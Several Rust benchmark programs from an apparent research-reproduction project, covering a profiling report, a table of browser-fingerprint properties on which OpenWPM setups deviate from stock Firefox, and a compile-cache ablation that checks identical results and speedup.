        "forensics: {} dump(s), {} ring event(s); {} slow visit(s) at/above {slow_us} µs (baseline p99)",
        summary.dumps, summary.ring_events, slow_dumps
    );
    if summary.dumps == 0 {
        failures.push("no forensic dumps recorded — slow-visit threshold never fired".into());
    }

    // ------------------------------------------------------ effort counters
    let effort: Vec<(&str, u64)> = vec![
        ("compile_hits", snap.counter("cache.compile.hit")),
        ("compile_misses", snap.counter("cache.compile.miss")),
        ("steals", snap.counter("sched.steal")),
        ("idle_spins", snap.counter("sched.idle_spins")),
        ("archive_entries", snap.counter("archive.write.entries")),
        ("archive_blobs", snap.counter("archive.write.blobs")),
        ("checkpoint_writes", snap.counter("checkpoint.writes")),
    ];
    println!(
        "effort: {}",
        effort.iter().map(|(k, v)| format!("{k}={v}")).collect::<Vec<_>>().join(" ")
    );

    // ------------------------------------------------------------ JSON report
    let mut json = format!(
        "{{\"suite\":\"profile\",\"sites\":{sites},\"seed\":{seed},\"smoke\":{smoke},\
         \"workers\":{workers},\"baseline_ms\":{baseline_ms:.3},\"profiled_ms\":{profiled_ms:.3},\
         \"overhead_pct\":{overhead_pct:.2},\"invisible\":{invisible},\
         \"records_digest\":\"{:016x}\",\"telemetry_digest\":\"{:016x}\",\
         \"visit_total_us\":{visit_total},\"sched_total_us\":{sched_total},\
         \"coverage\":{coverage:.4},\"share_sum_pct\":{share_sum:.2},\"phases\":[",
        fp_b.records_digest, fp_b.telemetry_digest,
    );
    for (i, r) in rows.iter().enumerate() {
        if i > 0 {
            json.push(',');
        }
        json.push_str(&format!(
            "{{\"name\":\"{}\",\"n\":{},\"p50_us\":{},\"p99_us\":{},\"self_us\":{},\
             \"share_pct\":{:.2}}}",
            r.name, r.n, r.p50_us, r.p99_us, r.self_us, r.share_pct
        ));
    }
    json.push_str(&format!(
        "],\"slow_threshold_us\":{slow_us},\"forensic_dumps\":{},\"forensic_ring_events\":{},\
         \"slow_visit_dumps\":{slow_dumps},\"effort\":{{",
        summary.dumps, summary.ring_events
    ));
    for (i, (k, v)) in effort.iter().enumerate() {
        if i > 0 {
            json.push(',');
        }
        json.push_str(&format!("\"{k}\":{v}"));
    }
    json.push_str(&format!(
        "}},\"healthy\":{},\"config\":\"{:016x}\"}}",
        failures.is_empty(),
        bench::run_config_hash()
    ));
    println!("{json}");
    if let Err(e) = std::fs::write("BENCH_profile.json", format!("{json}\n")) {
        eprintln!("warning: could not write BENCH_profile.json: {e}");
    }

    bench::finish("profile", Some(&format!("{sites} sites, 2 runs (baseline + profiled)")));
    if !failures.is_empty() {
        for f in &failures {
            eprintln!("FAIL: {f}");
        }
        std::process::exit(1);
    }
}
