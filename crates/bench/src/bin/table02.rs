//! Table 2 — deviating properties of each OpenWPM setup vs stock Firefox.

#![deny(deprecated)]

use browser::{Os, RunMode};
use gullible::report::TextTable;
use gullible::surface::{surface, ClientKind};

fn main() {
    bench::banner("Table 2: fingerprint surface per OS × run mode");
    let setups: &[(Os, RunMode)] = &[
        (Os::MacOs1015, RunMode::Regular),
        (Os::MacOs1015, RunMode::Headless),
        (Os::Ubuntu1804, RunMode::Regular),
        (Os::Ubuntu1804, RunMode::Headless),
        (Os::Ubuntu1804, RunMode::Xvfb),
        (Os::Ubuntu1804, RunMode::Docker),
    ];
    let mut table = TextTable::new("Table 2 — deviating properties (OpenWPM vs stock Firefox)");
    let mut header = vec!["property".to_string()];
    for (os, mode) in setups {
        header.push(format!("{}/{}", os.name(), mode.name()));
    }
    let header_refs: Vec<&str> = header.iter().map(String::as_str).collect();
    table.header(&header_refs);

    let reports: Vec<_> =
        setups.iter().map(|(os, mode)| surface(ClientKind::OpenWpm, *os, *mode)).collect();
    let tick = |b: bool| if b { "yes" } else { "-" }.to_string();
    let mut push = |label: &str, f: &dyn Fn(&gullible::SurfaceReport) -> String| {
        let mut row = vec![label.to_string()];
        row.extend(reports.iter().map(f));
        table.row(&row);
    };
    push("navigator.webdriver is true", &|r| tick(r.webdriver_true()));
    push("screen dimension prop.", &|r| tick(r.screen_dimension_deviates()));
    push("screen position prop.", &|r| tick(r.screen_position_deviates()));
    push("font enumeration", &|r| tick(r.font_enumeration_deviates()));
    push("timezone is 0", &|r| tick(r.timezone_zero()));
    push("navigator.languages prop.", &|r| {
        let n = r.language_prop_count();
        if n == 0 { "-".into() } else { n.to_string() }
    });
    push("deviating WebGL prop.", &|r| {
        let n = r.webgl_deviations();
        if n == 0 { "-".into() } else { n.to_string() }
    });

    // With instrumentation: deltas added by the vanilla JS instrument.
    let mut tamper_row = vec!["+ tampering artefacts (instrumented)".to_string()];
    let mut custom_row = vec!["+ added custom functions (instrumented)".to_string()];
    for (os, mode) in setups {
        let plain = surface(ClientKind::OpenWpm, *os, *mode);
        let inst = surface(ClientKind::OpenWpmInstrumented, *os, *mode);
        tamper_row.push(format!(
            "+{}",
            inst.tampering_deviations().saturating_sub(plain.tampering_deviations())
        ));
        custom_row.push(format!("+{}", inst.added_custom_functions()));
    }
    table.row(&tamper_row);
    table.row(&custom_row);
    println!("{}", table.render());
    println!(
        "paper: webdriver/screen rows deviate everywhere; headless WebGL ≈ 2037 (macOS) / 2061 \
         (Ubuntu); Xvfb 18; Docker 27; instrumentation adds +1 custom window function."
    );
    bench::finish("table02", None);
}
