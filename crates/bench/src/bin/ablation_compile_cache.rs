//! Compile-cache ablation: the same scan with the shared script-compilation
//! cache on and off, proving (a) the cache is a pure optimisation — every
//! measured artifact is byte-identical either way — and (b) it pays for
//! itself (the scan phase must be ≥ 1.5× faster with the cache).
//!
//! ```text
//! cargo run --release -p bench --bin ablation_compile_cache
//! ```
//!
//! Exits non-zero if the two runs disagree on any result or the speedup
//! target is missed, so CI can gate on it.

#![deny(deprecated)]

use gullible::{Scan, ScanConfig};
use gullible::obs;

fn scan_cfg() -> ScanConfig {
    // Ablations run the scan three times (warm-up + two measured legs);
    // cap the population so the default configuration stays quick.
    let n = bench::n_sites().min(10_000);
    let mut cfg = ScanConfig::new(n, bench::seed());
    cfg.workers = bench::workers();
    cfg.faults = bench::env::fault_plan();
    cfg
}

/// One measured leg: scan with the cache in the given state, returning the
/// report, the deterministic telemetry digest and the wall time.
fn leg(cache_on: bool) -> (gullible::ScanReport, u64, std::time::Duration) {
    obs::reset();
    // `reset` clears the stats flag; re-arm it so both legs actually
    // record the metrics whose digest we compare.
    obs::set_stats(true);
    jsengine::cache().clear();
    jsengine::set_cache_enabled(cache_on);
    let t0 = std::time::Instant::now();
    let report = Scan::new(scan_cfg()).run().expect("scan without checkpoint cannot fail");
    let wall = t0.elapsed();
    let digest = obs::registry().snapshot().digest();
    (report, digest, wall)
}

fn main() {
    bench::banner("ablation: shared script-compilation cache");

    // Warm-up: fills the webgen materialisation memo (shared by both legs)
    // and faults in lazily-built corpus state, so neither leg pays one-off
    // costs the other doesn't.
    let _ = Scan::new(scan_cfg()).run();

    let (with_cache, digest_on, wall_on) = leg(true);
    let stats = jsengine::cache().stats();
    let (without, digest_off, wall_off) = leg(false);

    println!("scan with cache:    {wall_on:>10.2?}");
    println!("scan without cache: {wall_off:>10.2?}");
    let speedup = wall_off.as_secs_f64() / wall_on.as_secs_f64();
    println!("speedup:            {speedup:>9.2}x (target >= 1.50x)");
    println!(
        "cache: {} entries, {} hits / {} misses, {} source bytes retained",
        stats.entries, stats.hits, stats.misses, stats.bytes
    );

    let mut ok = true;
    if with_cache.sites != without.sites
        || with_cache.history != without.history
        || with_cache.table5() != without.table5()
    {
        println!("FAIL: scan results differ with the cache enabled");
        ok = false;
    }
    if digest_on != digest_off {
        println!("FAIL: telemetry digest differs: {digest_on:016x} vs {digest_off:016x}");
        ok = false;
    }
    if speedup < 1.5 {
        println!("FAIL: speedup below 1.5x");
        ok = false;
    }
    if ok {
        println!("OK: identical results, identical digest {digest_on:016x}, {speedup:.2}x faster");
    }

    bench::finish("ablation_compile_cache", Some(&with_cache.coverage_line()));
    if !ok {
        std::process::exit(1);
    }
}
